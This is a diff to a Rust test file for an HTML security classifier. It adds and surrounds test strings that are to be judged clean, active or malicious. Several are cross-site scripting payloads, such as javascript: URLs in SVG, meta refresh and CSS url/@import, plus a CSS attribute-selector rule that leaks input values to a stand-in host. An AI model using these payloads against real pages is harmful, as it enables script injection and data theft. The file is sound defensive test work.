@@ -22,6 +22,7 @@ fn quiet_pages_are_clean() {
         "<p style='width:9px\\9;background:url(#a)'><img src='file:///C:/plot.png'>",
         "<script type='application/json'>{\"a\": \"document.cookie fetch('http://x')\"}</script>",
         "<textarea><script>alert(1)</script></textarea>",
+        "<style>a[href^=\"javascript:\"]:after{content:\"\"}div.output_javascript:empty{padding:0}</style>",
         "<p>a < b and <3</p><!-- comment -->",
     ] {
         assert_eq!(worst(page), None, "{page}");
@@ -39,6 +40,7 @@ fn charts_are_active() {
         "<script type=importmap>{\"imports\": {\"a\": \"./a.js\", \"three\": \"https://cdn.jsdelivr.net/npm/three.js\"}}</script><script type=module>import * as a from 'three'</script>",
         "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"next.html\", \"https://host.invalid/docs/next.html\"]}]}</script>",
         "<script type=module>import a from \"https://cdn.plot.ly/a.js\"; x.from('https://host.invalid/'); let s = \"see https://host.invalid/\"</script>",
+        "<script type=module>import {a} from 'https://www.unpkg.com/dt_for_itables/dt_bundle.js'</script>",
         "<script>t = \"taken from 'https://host.invalid/'\"</script>",
         "<link rel=modulepreload href=a.js><link rel=preload as=script href=https://cdn.plot.ly/a.js>",
         "<link rel=preload as=font href=https://host.invalid/a.woff2><link rel=preconnect href=https://host.invalid><link rel=dns-prefetch href=//host.invalid>",
@@ -109,6 +111,8 @@ fn attacks_are_malicious() {
         "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
         "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
         "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+        "<style>p{background:url( \"javascript:x()\")}</style>",
+        "<style>@import 'javascript:x()'</style>",
         "<style>input[value^=a]{background:url(https://a.invalid/a)}</style>",
     ] {
         assert_eq!(worst(page), Some(Severity::Malicious), "{page}");
